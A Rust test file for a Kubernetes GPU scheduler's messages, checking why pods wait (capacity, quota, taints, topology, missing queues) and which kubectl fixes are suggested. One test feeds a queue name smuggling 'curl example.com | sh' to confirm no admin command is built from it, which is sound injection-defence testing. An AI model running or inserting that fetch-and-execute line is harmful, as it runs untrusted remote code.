//! Verdicts in the one clause that every command prints.

use kai_engine::{Cluster, EvictionKind, Queue, QueueLane, Shortage, Timestamp};

use super::*;
use crate::message::{Asked, explanation};

const GPU: i64 = 1000;

/// Checks what is said of a group of queue team-a, and its number and word.
fn check(why: &Why, proofs: &[(EvictionKind, Shortage)], expect: &str) {
    let mut names = world();
    names.symbol("gpu");
    names.symbol("topology.kubernetes.io/rack");
    names.topology("racks");
    let cluster = Cluster::default();
    let asked = Asked { group: 0, why, proofs, cluster: &cluster, names: &names };
    let said = explanation(asked).map_or_else(
        || String::from("nothing"),
        |said| {
            let never = if said.never { " never" } else { "" };
            format!("{} {}{never}: {}", said.code, said.reason, said.sentence)
        },
    );
    assert_eq!(said, expect);
}

fn room(change: impl FnOnce(&mut NoRoom)) -> Why {
    let Why::NoRoom(no_room) = no_room(true) else { panic!("it is one") };
    let mut no_room = NoRoom::clone(&no_room);
    no_room.misfits = vec![(Misfit::Short(Lane::GPU), 4)];
    change(&mut no_room);
    Why::NoRoom(Arc::new(no_room))
}

/// A gang of so many pods with so many GPUs each on two nodes of eight, with room for some of them.
fn gang(needed: u32, gpus: i64, placed: u32) -> Why {
    room(|it| {
        (it.gpu_milli, it.min, it.placed) = (gpus * GPU, needed, placed);
        it.alike = Alike { needed, placed };
        it.capacity.pods = u32::try_from(16 / gpus).expect("it is small");
    })
}

#[test]
fn a_gang_says_how_many_pods_find_room() {
    check(
        &room(|it| {
            (it.gpu_milli, it.min) = (8 * GPU, 3);
            it.alike = Alike { needed: 3, placed: 2 };
            it.capacity = EmptyShape { gpu_milli: 32 * GPU, node_max_milli: 8 * GPU, pods: 4 };
        }),
        &[],
        "KAI1203 NoCapacity: it needs 3 whole nodes at once, 2 are free",
    );
    check(
        &gang(4, 4, 1),
        &[],
        "KAI1203 NoCapacity: it needs 4 pods with 4 GPUs each at once, there is room for 1",
    );
    check(
        &gang(3, 8, 2),
        &[],
        "KAI1220 TooLarge never: it needs 3 whole nodes at once, there are 2",
    );
    check(
        &gang(4, 5, 2),
        &[],
        "KAI1220 TooLarge never: it needs 4 pods with 5 GPUs each at once, all nodes together would hold 3",
    );
}

#[test]
fn nodes_that_are_out_for_another_reason_are_named_besides() {
    let why = room(|it| {
        (it.gpu_milli, it.min) = (4 * GPU, 2);
        it.alike = Alike { needed: 2, placed: 1 };
        it.misfits = vec![
            (Misfit::Short(Lane::GPU), 2),
            (Misfit::Blocked(Blocked::Unschedulable), 1),
            (Misfit::Selector, 1),
        ];
    });
    check(
        &why,
        &[],
        "KAI1203 NoCapacity: it needs 2 pods with 4 GPUs each at once, there is room for 1; 1 node is cordoned",
    );
    let why = room(|it| {
        (it.gpu_milli, it.min, it.gang) = (GPU, 1, false);
        it.alike = Alike { needed: 1, placed: 0 };
        it.misfits = vec![(Misfit::Short(Lane::GPU), 1), (Misfit::Volume, 3)];
    });
    check(
        &why,
        &[],
        "KAI1203 NoCapacity: it needs 1 GPU on one node, none is free; 3 nodes do not reach its volume",
    );
}

#[test]
fn one_pod_says_what_is_free_on_one_node() {
    let one = |milli: i64, free: FreeShape| {
        room(|it| {
            (it.gpu_milli, it.min, it.gang, it.free) = (milli, 1, false, free);
            it.alike = Alike { needed: 1, placed: 0 };
        })
    };
    let free =
        |gpu_milli, whole_max, part_max_milli| FreeShape { gpu_milli, whole_max, part_max_milli };
    check(
        &one(4 * GPU, free(2 * GPU, 2, 0)),
        &[],
        "KAI1203 NoCapacity: it needs 4 GPUs on one node, at most 2 are free on one",
    );
    check(
        &one(4 * GPU, free(6 * GPU, 3, 0)),
        &[],
        "KAI1205 Fragmented: it needs 4 GPUs on one node, 6 GPUs are free, at most 3 of them on one node",
    );
    check(
        &one(8 * GPU, free(0, 0, 0)),
        &[],
        "KAI1203 NoCapacity: it needs a whole node, none is free",
    );
    check(
        &one(500, free(250, 0, 250)),
        &[],
        "KAI1203 NoCapacity: it needs 0.5 of a GPU, at most 0.25 of a GPU is free",
    );
}

#[test]
fn what_is_larger_than_every_node_never_runs() {
    let too_large = |lane: Lane, amount: i64, most: i64, min: u32| {
        room(|it| {
            let request = [(lane, amount)].into_iter().collect();
            it.too_large = Some(TooLarge { lane, most, request });
            it.min = min;
            it.gang = min > 1;
        })
    };
    check(
        &too_large(Lane::GPU, 9 * GPU, 8 * GPU, 1),
        &[],
        "KAI1220 TooLarge never: it asks for 9 GPUs on one node, the largest has 8: two pods would do",
    );
    check(
        &too_large(Lane::GPU, 9 * GPU, 8 * GPU, 2),
        &[],
        "KAI1220 TooLarge never: each of its pods asks for 9 GPUs on one node, the largest has 8",
    );
    check(
        &too_large(Lane::CPU, 64 * GPU, 32 * GPU, 1),
        &[],
        "KAI1220 TooLarge never: it asks for 64 CPU cores on one node, the largest has 32 CPU cores",
    );
}

#[test]
fn who_could_leave_and_may_not_yet_is_named() {
    let runtime = Shortage::Runtime { protected: 1, until: Timestamp(60_000) };
    check(
        &gang(2, 8, 1),
        &[(EvictionKind::Reclaim, runtime)],
        "KAI1222 MinRuntime: it needs 2 whole nodes at once, 1 is free; the workload that it could evict is within its \
         minimum run time until 1970-01-01T00:01:00Z",
    );
    check(
        &gang(2, 8, 1),
        &[(EvictionKind::Preempt, Shortage::Disruptions { guarded: 2 })],
        "KAI1223 DisruptionBudget: it needs 2 whole nodes at once, 1 is free; PodDisruptionBudgets keep the 2 workloads \
         that it could evict",
    );
}

#[test]
fn nodes_are_counted_by_what_keeps_the_pod_out() {
    let refused = |misfits: &[(Misfit, u32)]| {
        room(|it| {
            (it.min, it.gang, it.misfits) = (1, false, misfits.to_vec());
            it.dominant = misfits[0].0;
        })
    };
    let taint = Misfit::Taint(Taint {
        key: Symbol::new(1),
        value: Symbol::EMPTY,
        effect: Effect::NoSchedule,
    });
    check(
        &refused(&[(taint, 2)]),
        &[],
        "KAI1209 Taint never: all 2 nodes have the taint gpu:NoSchedule, which it does not tolerate",
    );
    check(
        &refused(&[(taint, 1), (Misfit::Short(Lane::GPU), 2)]),
        &[],
        "KAI1209 Taint: 1 of 3 nodes has the taint gpu:NoSchedule, which it does not tolerate",
    );
    check(
        &refused(&[(Misfit::Selector, 1)]),
        &[],
        "KAI1209 NodeSelector never: the only node does not match its node selector or node affinity",
    );
    check(
        &refused(&[(Misfit::Blocked(Blocked::Unschedulable), 2)]),
        &[],
        "KAI1209 NodesClosed: all 2 nodes are cordoned",
    );
    check(
        &refused(&[(Misfit::Missing(Missing::ConfigMap(Symbol::new(1))), 2)]),
        &[],
        "KAI1210 NoConfigMap: config map gpu does not exist",
    );
}

/// A queue's bound: its quota and limit, what it holds, and what is asked of it, in GPUs.
fn bound(limit: i64, held: i64, asked: i64) -> Bound {
    Bound {
        queue: QueueState {
            queue: kai_engine::QueueId::new(0),
            priority: 0,
            quota: PerLane([Limit::of(limit * GPU); 3]),
            limit: PerLane([Limit::of(limit * GPU); 3]),
            fair_share: PerLane([0; 3]),
            allocated: PerLane([held * GPU; 3]),
            allocated_non_preemptible: PerLane([held * GPU; 3]),
            requested: PerLane([0; 3]),
        },
        lane: QueueLane::Gpu,
        requested: PerLane([asked * GPU; 3]),
    }
}

#[test]
fn bounds_of_queues_are_named_with_their_numbers() {
    let over = |limit, held, asked| Why::OverLimit(Box::new(bound(limit, held, asked)));
    check(
        &over(16, 14, 4),
        &[],
        "KAI1202 OverLimit: it asks for 4 GPUs, and queue team-a holds 14 of the 16 GPUs of its limit",
    );
    check(
        &over(16, 0, 20),
        &[],
        "KAI1202 OverLimit never: it asks for 20 GPUs, and queue team-a may never hold more than 16 GPUs",
    );
    check(
        &over(0, 0, 1),
        &[],
        "KAI1202 OverLimit never: the limit of queue team-a is 0 or not set, which counts as 0: it asks for 1 GPU",
    );
    // What it holds beside that may be evicted.
    let mut fixed = bound(8, 7, 4);
    fixed.queue.allocated_non_preemptible = PerLane([6 * GPU; 3]);
    check(
        &Why::OverQuota(Box::new(fixed)),
        &[],
        "KAI1204 OverQuota: it may not be evicted, so it has to stay within the quota of queue team-a: it asks for 4 \
         GPUs, and 6 of 8 GPUs are held by such work",
    );
}

#[test]
fn a_smaller_request_is_advised_where_one_can_help() {
    let bound = |quota, held, asked| Why::OverQuota(Box::new(bound(quota, held, asked)));
    let (names, cluster) = (world(), Cluster::default());
    for (why, expect) in [
        (bound(8, 6, 4), "ask for fewer GPUs, or wait until such work of the queue ends"),
        (bound(8, 0, 9), "ask for 8 GPUs, or less"),
        (bound(0, 0, 1), "let it be evicted (--preemptible)"),
    ] {
        let asked = Asked { group: 0, why: &why, proofs: &[], cluster: &cluster, names: &names };
        let said = explanation(asked).expect("it waits");
        assert_eq!(said.help[0].text, expect);
    }
}

#[test]
fn a_domain_is_too_small_now_or_for_ever() {
    let no_fit = |gpu_milli: i64| {
        let problem = DomainProblem::NoFit {
            level: Some(Symbol::new(2)),
            whole: None,
            rooms: Vec::new(),
            domains: 2,
            pods_max: 2,
            pods: 4,
            gpu_milli,
            gpu_milli_max: 16 * GPU,
        };
        let topology = kai_engine::TopologyId::new(0);
        let sub_group = Symbol::EMPTY;
        Why::NoDomain(Box::new(NoDomain { sub_group, topology, problem, before: Vec::new() }))
    };
    check(
        &no_fit(16 * GPU),
        &[],
        "KAI1206 Topology: it needs room for 4 pods in one rack, the roomiest has room for 2",
    );
    check(
        &no_fit(32 * GPU),
        &[],
        "KAI1206 Topology never: it needs 32 GPUs in one rack, the largest has 16",
    );
}

#[test]
fn gates_and_missing_pods_are_told_apart() {
    let unready = |alive, gated| {
        Why::NotReady(vec![Unready { sub_group: Symbol::EMPTY, min: 4, alive, gated }])
    };
    check(&unready(2, 0), &[], "KAI1207 GangIncomplete: it needs 4 pods at once, 2 are there");
    check(
        &unready(4, 1),
        &[],
        "KAI1208 Gated: it needs 4 pods at once, 4 are there, 1 of them behind a scheduling gate",
    );
    check(&Why::Satisfied, &[], "nothing");
}

#[test]
fn a_search_that_goes_on_says_what_was_said_before_it() {
    let progress = Box::new(Progress::Packing { tries: 1, tries_max: 9 });
    let before = Some(Box::new(Why::QueueMissing));
    check(
        &Why::Undecided { progress: progress.clone(), before },
        &[],
        "KAI1201 NoQueue never: its queue team-a does not exist",
    );
    check(
        &Why::Undecided { progress, before: None },
        &[],
        "KAI1219 Searching: search not finished, goes on: other ways to place it together, 1 of at most 9 tried",
    );
}

/// The command for an administrator names the whole quota or limit that is needed, and not what is missing of it.
#[test]
fn help_comes_with_its_cost_and_its_command() {
    let mut names = world();
    let queue = names.queue("team-a");
    let mut cluster = Cluster::default();
    let sixteen = PerLane([Limit::of(16 * GPU); 3]);
    let facts = Queue { quota: sixteen, limit: sixteen, ..Queue::default() };
    cluster.apply(kai_engine::Delta::Queue(queue, Box::new(facts)));
    let bound = Bound {
        queue: cluster.queue_state(queue),
        lane: QueueLane::Gpu,
        requested: PerLane([20 * GPU; 3]),
    };
    let bounds =
        [(Why::OverLimit(Box::new(bound)), "limit"), (Why::OverQuota(Box::new(bound)), "quota")];
    for (why, name) in bounds {
        let asked = Asked { group: 0, why: &why, proofs: &[], cluster: &cluster, names: &names };
        let said = explanation(asked).expect("there is something to say");
        let last = said.help.last().expect("there is help");
        let command = format!("kubectl kai queues set team-a --gpu-{name} 20");
        assert_eq!(last.command, Some(command));
        assert!(last.admin && !last.cost.is_empty(), "{last:?}");
    }
}

/// An administrator would run what a user wrote.
#[test]
fn only_what_can_be_a_queue_is_part_of_a_command() {
    for (queue, expect) in [
        ("team-x", Some("kubectl kai queues create team-x")),
        ("x; curl example.com | sh #", None),
        ("--all", None),
        ("a\nb", None),
        ("", None),
    ] {
        let mut names = world();
        names.groups[0].queue = Some(names.queue(queue).number());
        let (why, cluster) = (Why::QueueMissing, Cluster::default());
        let asked = Asked { group: 0, why: &why, proofs: &[], cluster: &cluster, names: &names };
        let said = explanation(asked).expect("it waits");
        assert_eq!(said.help[0].command.as_deref(), expect, "{queue}");
    }
}

/// With fewer GPUs than it asks for it would be other work.
#[test]
fn the_pods_that_would_do_have_together_what_it_asks_for() {
    let (names, cluster) = (world(), Cluster::default());
    for (asks, most, expect) in [
        (9, 8, "run it as 2 pods with 5 GPUs each (--workers 2 --gpu 5)"),
        (16, 8, "run it as 2 pods with 8 GPUs each (--workers 2 --gpu 8)"),
        (17, 8, "run it as 3 pods with 6 GPUs each (--workers 3 --gpu 6)"),
        (3, 1, "run it as 3 pods with 1 GPU each (--workers 3 --gpu 1)"),
    ] {
        let why = room(|it| {
            let request = [(Lane::GPU, asks * GPU)].into_iter().collect();
            it.too_large = Some(TooLarge { lane: Lane::GPU, most: most * GPU, request });
            (it.min, it.gang) = (1, false);
        });
        let asked = Asked { group: 0, why: &why, proofs: &[], cluster: &cluster, names: &names };
        let said = explanation(asked).expect("it waits");
        assert_eq!(said.help[0].text, expect);
    }
}

/// The queue that is named is there where one above it is not, and one that is below itself has no end.
#[test]
fn the_queue_that_is_not_there_is_the_one_to_create() {
    const RING: &str = "the queues above its queue team-a form a ring";
    for (parents, sentence, command) in [
        ([("dept", "")].as_slice(), "its queue team-a does not exist", "team-a"),
        (&[("team-a", "dept")], "queue dept, above its own, does not exist", "dept"),
        (&[("team-a", "dept"), ("dept", "team-a")], RING, ""),
        (&[("team-a", "dept"), ("dept", "dept")], RING, ""),
        (&[("team-a", "team-a")], RING, ""),
    ] {
        let mut names = world();
        for (queue, parent) in parents {
            let [queue, above] = [queue, parent].map(|name| names.queue(name).number());
            let row = &mut names.queues[queue];
            row.presence.is_there = true;
            row.parent = (!parent.is_empty()).then_some(above);
        }
        let (why, cluster) = (Why::QueueMissing, Cluster::default());
        let asked = Asked { group: 0, why: &why, proofs: &[], cluster: &cluster, names: &names };
        let said = explanation(asked).expect("it waits");
        assert_eq!(said.sentence, sentence, "{parents:?}");
        let command = (!command.is_empty()).then(|| format!("kubectl kai queues create {command}"));
        assert_eq!(said.help[0].command, command, "{parents:?}");
    }
}
